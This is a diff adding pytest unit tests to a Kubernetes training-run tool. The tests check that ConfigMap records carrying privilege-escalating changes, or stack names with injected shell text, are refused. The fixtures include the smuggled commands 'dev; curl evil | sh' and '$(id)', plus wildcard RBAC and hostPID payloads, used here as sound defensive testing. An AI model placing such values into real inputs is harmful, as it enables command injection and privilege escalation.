@@ -2,8 +2,11 @@
 1.34.
 """
 
+import json
+from dataclasses import replace
 from datetime import UTC, datetime, timedelta
-from typing import Any
+from types import SimpleNamespace
+from typing import Any, cast
 from unittest.mock import Mock
 
 import pytest
@@ -14,13 +17,16 @@ from infra.kube.kept import KEPT_ANNOTATION
 from infra.kube.namespaces.claim_namespace import refusal
 from infra.kube.pods import same_machine
 from infra.kube.pods.report import describe_pods, report_pod
-from infra.kube.record import Record, parse_record
+from infra.kube.record import Record, parse_record, stacks_of_others
 from infra.kube.runs.await_ready import judge
 from infra.kube.runs.busy import OtherRun, other_run, runs_to_replace
+from infra.kube.runs.hand_over_plan import Plan
 from infra.kube.runs.lock import is_expired
 from infra.kube.say import say
 from infra.kube.waiting import Patience, wait_for
 from infra.kube.workload import Workload, is_active, is_applied
+from infra.workloads import WORKLOADS
+from tests.unit.kube.runs import gone_run
 
 Json = dict[str, Any]
 WORKLOAD = Workload("batch/v1", "Job", "train")
@@ -323,6 +329,64 @@ def test_edited_record_is_named_with_its_field(field: str, value: str, words: st
         parse_record(item)
     assert str(refused.value).startswith("ConfigMap disttrain-run-dev in namespace ns is the rec")
     assert str(refused.value).endswith("kubectl -n ns delete configmap disttrain-run-dev")
+
+
+@pytest.mark.parametrize("field", ["suspend", "resume"])
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]},
+        {"spec": {"template": {"spec": {"hostPID": True}}}},
+        {"spec": {"leaderWorkerTemplate": {"workerTemplate": {"spec": {"hostPID": True}}}}},
+        {"spec": {"trainer": {"image": "evil"}}},
+        {"spec": {"suspend": True}, "metadata": {"labels": {"a": "b"}}},
+        {"command": "AbortJob", "phases": ["Aborted"], "spec": {"suspend": True}},
+        {"phases": ["Aborted"]},
+    ],
+)
+def test_record_chooses_no_change_beyond_a_switch(field: str, change: Json) -> None:
+    """Other stacks send the change in a record with the rights of their users. A record that would
+    change more than numbers and switches of a workload is refused: whoever may write a ConfigMap
+    could otherwise give themselves any right that a user of another stack has.
+    """
+    item = record("dev", 3).to_object("ns")
+    item["data"][field] = json.dumps(change)
+    with pytest.raises(ValueError, match=f"its field {field} is neither a switch"):
+        parse_record(item)
+
+
+@pytest.mark.parametrize("name", ["dev; curl evil | sh", "dev\033[2J", "$(id)", "dev dev"])
+def test_stack_of_a_record_can_be_typed_in_a_command(name: str) -> None:
+    """Messages tell users to type commands with the stack's name of a record. A text that is no
+    such name, which others may have written there, is not shown; the owner is named instead.
+    """
+    item = replace(record("dev", 3), stack=name).to_object("ns")
+    item["metadata"]["annotations"]["disttrain.dev/suspended-by"] = name
+    found = parse_record(item)
+    assert (found.stack, found.suspended_by) == ("dev", "")
+    assert stacks_of_others([item], "mine") == ["of owner dev"]
+    full = replace(record("dev", 3), stack="organization/disttrain/dev-1.a_b").to_object("ns")
+    assert parse_record(full).stack == "organization/disttrain/dev-1.a_b"
+    assert stacks_of_others([full], "mine") == ["organization/disttrain/dev-1.a_b"]
+
+
+@pytest.mark.parametrize("field", ["suspend", "resume"])
+def test_kind_with_another_change_is_refused_before_its_record_is_written(field: str) -> None:
+    """A workload kind of a user's own that suspends by another change is refused by its own `up`,
+    which says what may be set. Otherwise its record would stop the `up` of every other stack.
+    """
+    given = gone_run.job(**{**gone_run.HAND_OVER, field: {"spec": {"state": "paused"}}})
+    with pytest.raises(ValueError, match=rf"{field}: .*'paused'.* docs/extending\.md"):
+        Plan.of(given)
+
+
+@pytest.mark.parametrize("name", sorted(WORKLOADS))
+def test_record_of_each_kind_is_read(name: str) -> None:
+    """What suspends and resumes the workloads of each kind is such a switch, or a command."""
+    kind, run = WORKLOADS[name], cast(Any, SimpleNamespace(world=SimpleNamespace(pods=2)))
+    whole = replace(record("dev", 3), suspend=kind.suspend(run), resume=kind.resume(run))
+    found = parse_record(whole.to_object("ns"))
+    assert (found.suspend, found.resume) == (whole.suspend, whole.resume)
 
 
 def test_lease_expires_by_the_clock_of_the_server() -> None:
